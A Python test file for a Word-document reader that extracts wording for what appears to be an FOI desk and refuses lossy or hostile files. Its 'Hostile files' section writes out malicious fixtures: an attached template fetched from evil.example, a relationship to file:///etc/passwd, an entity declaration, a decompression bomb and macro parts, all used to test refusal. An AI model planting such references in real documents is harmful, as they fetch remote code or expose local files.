"""Word documents of wording: read back word for word, and refused where words would be lost or the file is hostile."""

import io
import random
import time
import zipfile
from dataclasses import replace

import pytest
from docx import Document
from docx.shared import Pt

from codes.package_safety import MEGABYTE, OLE
from responses.domain.errors import Refused
from responses.domain.wording_document import read
from responses.word_files import read_document
from tests.responses.word_documents import PIECE, edited, of_pieces, said, with_part, with_xml

EMBEDDED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def read_back(content):
    document = read(read_document(io.BytesIO(content)))
    assert not document.problems, document.problems
    return document.pieces


def body_after(edit):
    (piece,) = read_back(edited(edit))
    return piece.wording.body


def refusal(content):
    with pytest.raises(Refused) as refused:
        read_document(io.BytesIO(content))
    return str(refused.value)


def test_a_document_comes_back_as_it_went():
    assert [piece.wording for piece in read_back(of_pieces())] == [PIECE]


def test_the_document_is_in_british_english_names_nobody_and_has_a_heading_for_each_piece():
    document = Document(io.BytesIO(of_pieces()))
    assert document.core_properties.author == "FOI Desk" and not document.core_properties.comments
    assert said(document, "##### conclusion").style.name == "Heading 2"
    assert 'w:val="en-GB"' in document.styles.element.xml and 'w:val="en-US"' not in document.styles.element.xml


def test_looks_of_words_change_nothing():
    def edit(document):
        paragraph = said(document, "the end of our reply")
        paragraph.runs[0].bold, paragraph.runs[0].font.size = True, Pt(30)
        paragraph.style = "Heading 1"
        paragraph.add_run("")

    assert body_after(edit) == PIECE.body


def test_words_in_several_runs_with_bookmarks_and_spelling_marks_are_one_text():
    content = with_xml('<w:r><w:t xml:space="preserve"> And so</w:t></w:r>')
    content = edited(lambda document: said(document, "And so").add_run(" on."), content)
    assert "the end of our reply. And so on.\n" in read_back(content)[0].wording.body


def test_tabs_line_breaks_and_unbreakable_hyphens_are_words_and_page_breaks_and_soft_hyphens_are_not():
    runs = (
        "<w:r><w:tab/><w:t>a</w:t><w:br/><w:t>b</w:t><w:noBreakHyphen/><w:t>c</w:t><w:softHyphen/><w:t>d</w:t>"
        '<w:br w:type="page"/><w:lastRenderedPageBreak/></w:r>'
    )
    assert "reply.\ta\nb-cd\n" in read_back(with_xml(runs))[0].wording.body


def test_a_list_that_word_made_of_hyphens_is_one_again():
    def edit(document):
        last = said(document, "and again")
        for words in ("more", "and more"):
            last.insert_paragraph_before(words, style="List Bullet")

    assert "- sincerely\n- more\n- and more\n- and again" in body_after(edit)


def test_a_list_that_word_numbers_has_its_numbers():
    def edit(document):
        first = said(document, "the end of our reply")
        for words in ("One.", "Two."):
            first.insert_paragraph_before(words, style="List Number")

    assert body_after(edit).startswith("1. One.\n2. Two.\n\nThat is the end")


def test_a_list_with_letters_is_refused():
    def edit(document):
        first = said(document, "the end of our reply")
        first.insert_paragraph_before("One.", style="List Number")
        for form in document.part.numbering_part.element.iter(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}numFmt"
        ):
            form.set("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val", "lowerLetter")

    assert "“One.” is numbered by Word with letters" in refusal(edited(edit))


def linked(words, address):
    def edit(document):
        paragraph = said(document, "the end of our reply")
        key = paragraph.part.relate_to(address, f"{EMBEDDED}/hyperlink", is_external=True)
        link = with_link(paragraph, key, words)
        paragraph._p.append(link)

    return edited(edit)


def with_link(paragraph, key, words):
    link = paragraph._p.makeelement("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}hyperlink")
    link.set(f"{{{EMBEDDED}}}id", key)
    run = paragraph.add_run(f" {words}")
    link.append(run._r)
    return link


@pytest.mark.parametrize(
    ("words", "address"),
    [
        ("https://ico.org.uk", "https://ico.org.uk/"),
        ("www.ico.org.uk", "http://www.ico.org.uk/"),
        ("https://ico.org.uk/x)", "https://ico.org.uk/x)"),
        ("foi@nhs.example", "mailto:foi@nhs.example"),
    ],
)
def test_an_address_that_word_made_a_link_of_is_the_words_that_it_shows(words, address):
    assert f"reply. {words}" in read_back(linked(words, address))[0].wording.body


def test_a_link_that_does_not_show_its_address_is_refused():
    told = refusal(linked("the Commissioner", "https://ico.org.uk/"))
    assert "“the Commissioner” lead to the address https://ico.org.uk/" in told and "[words](address)" in told


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ('<w:ins w:id="1" w:author="C"><w:r><w:t>x</w:t></w:r></w:ins>', "tracked changes"),
        ('<w:del w:id="1" w:author="C"><w:r><w:delText>x</w:delText></w:r></w:del>', "Accept All Changes"),
        ('<w:moveFrom w:id="1" w:author="C"><w:r><w:t>x</w:t></w:r></w:moveFrom>', "tracked changes"),
        ('<w:r><w:rPr><w:rPrChange w:id="1" w:author="C"/></w:rPr><w:t>x</w:t></w:r>', "tracked changes"),
        ('<w:commentRangeStart w:id="0"/>', "a comment behind “That is the end of our reply.”"),
        ('<w:r><w:commentReference w:id="0"/></w:r>', "behind “remark:”"),
        ("<w:r><w:drawing/></w:r>", "a picture or a text box"),
        ("<w:r><w:pict/></w:r>", "a picture or a text box"),
        ("<w:r><w:object/></w:r>", "an object from another program"),
        ("<w:sdt><w:sdtContent><w:r><w:t>x</w:t></w:r></w:sdtContent></w:sdt>", "a form field"),
        ('<w:fldSimple w:instr="DATE"><w:r><w:t>x</w:t></w:r></w:fldSimple>', "a field that Word fills in"),
        ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', "a field that Word fills in"),
        ('<w:r><w:footnoteReference w:id="2"/></w:r>', "a footnote"),
        ('<w:r><w:sym w:font="Wingdings" w:char="F04A"/></w:r>', "a symbol from a special font"),
        ("<w:smartTag><w:r><w:t>x</w:t></w:r></w:smartTag>", "something that is not plain words"),
        ("<w:r><w:rPr><w:strike/></w:rPr><w:t>not this</w:t></w:r>", "“not this” are struck through"),
        ("<w:r><w:rPr><w:vanish/></w:rPr><w:t>not this</w:t></w:r>", "“not this” are hidden"),
    ],
)
def test_whatever_would_be_lost_or_is_not_decided_is_refused_with_what_to_do(xml, message):
    assert message in refusal(with_xml(xml))


def test_a_mark_that_says_not_struck_through_is_no_reason_to_refuse():
    content = with_xml('<w:r><w:rPr><w:strike w:val="0"/></w:rPr><w:t>this</w:t></w:r>')
    assert "reply.this" in read_back(content)[0].wording.body


def test_a_table_is_refused_and_words_at_the_head_of_pages_are():
    def with_table(document):
        document.add_table(1, 1).cell(0, 0).text = "Words"

    def with_head(document):
        document.sections[0].header.paragraphs[0].text = "Privileged"

    assert "a table" in refusal(edited(with_table))
    assert "head or foot of its pages says “Privileged”" in refusal(edited(with_head))


def test_a_text_box_is_refused_however_it_is_wrapped():
    box = (
        "<w:r><mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'>"
        "<mc:Choice Requires='wps'><w:t>x</w:t></mc:Choice></mc:AlternateContent></w:r>"
    )
    assert "a picture or a text box" in refusal(with_xml(box))


# --- Hostile files --------------------------------------------------------------------------------------------------

RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    b"</Relationships>"
)
TEMPLATE = RELS % (b"attachedTemplate", b"http://evil.example/x.dotm")


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(name.replace("__", "/"), content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty"),
        (OLE + b"\0" * 600, "an old Word or Office file"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "protected with a password"),
        (b"PK\x03\x04" + b"\0" * 400, "cut short or damaged"),
        (of_pieces()[:-30], "cut short or damaged"),
        (archive(readme=b"hello"), "ZIP archive and not a Word document"),
        (archive(xl__workbook__xml=b"<x/>", **{"xl/workbook.xml": b"<x/>"}), "an Excel workbook"),
        (archive(**{f"part{n}": b"" for n in range(101)}), "has 101 parts"),
        (with_part("word/vbaProject.bin", b"x"), "carries macros"),
        (with_part("[Content_Types].xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"), "carries macros"),
        (with_part("word/big.xml", b"\0" * (21 * MEGABYTE)), "would unpack to 2"),
        (with_part("word/settings.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "no Word writes"),
        (with_part("word/document.xml", b"<document><not closed"), "damaged and cannot be read"),
        (with_part("word/document.xml", b"<document/>"), "damaged and cannot be read"),
        (with_part("word/many.xml", b"<x>" + b"<y/>" * 300_000 + b"</x>"), "far more in it"),
        (with_part("word/_rels/settings.xml.rels", TEMPLATE), "outside of itself"),
        (with_part("word/_rels/document.xml.rels", RELS % (b"image", b"file:///etc/passwd")), "outside of itself"),
    ],
)
def test_a_hostile_or_broken_file_is_refused_in_plain_words_within_seconds(content, message):
    started = time.monotonic()
    assert message in refusal(content)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("seed", range(40))
def test_a_document_with_bytes_changed_is_read_or_refused_and_nothing_else(seed):
    chance = random.Random(seed)
    content = bytearray(of_pieces())
    for _ in range(chance.choice((1, 3, 20, 200))):
        content[chance.randrange(4, len(content))] = chance.randrange(256)
    try:
        read(read_document(io.BytesIO(bytes(content))))
    except Refused as refused:
        assert str(refused)


@pytest.mark.parametrize("seed", range(40))
def test_a_document_with_words_of_its_xml_changed_is_read_or_refused_and_nothing_else(seed):
    chance = random.Random(seed)
    with zipfile.ZipFile(io.BytesIO(of_pieces())) as archived:
        name = chance.choice(["word/document.xml", "word/styles.xml", "word/numbering.xml", "[Content_Types].xml"])
        xml = bytearray(archived.read(name))
    for _ in range(chance.choice((1, 3, 20))):
        xml[chance.randrange(len(xml))] = chance.choice(b'<>"=/ w1&')
    try:
        read(read_document(io.BytesIO(with_part(name, bytes(xml)))))
    except Refused as refused:
        assert str(refused)


def test_a_piece_of_another_block_is_read_beside_the_first():
    assert len(read_back(of_pieces(PIECE, replace(PIECE, slug="opening")))) == 2
